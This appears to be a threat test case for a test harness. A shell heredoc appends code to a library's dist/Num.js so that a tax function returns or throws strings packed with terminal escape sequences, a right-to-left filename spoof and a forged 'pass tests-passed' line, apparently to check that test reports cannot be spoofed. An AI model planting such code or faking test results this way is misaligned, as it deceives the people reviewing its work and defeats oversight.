# threat: 13
# suite: expensify-common
# verdict: fail tests-failed
# why: The code under test answers with such sequences, as values and as errors, which end up in reports of tests.
cat >> dist/Num.js <<'END'
const evil = '\u001b[2J\u001b]0;owned\u0007\u009b2J\u0000\ufffe\u202egnp.exe\r\u001b[1A\u001b[2Kpass tests-passed';
exports.default.tax.calculateTaxFromPercentage = (total, percentage) => {
    if (percentage) throw Object.assign(new Error(evil), {name: evil});
    return evil;
};
END
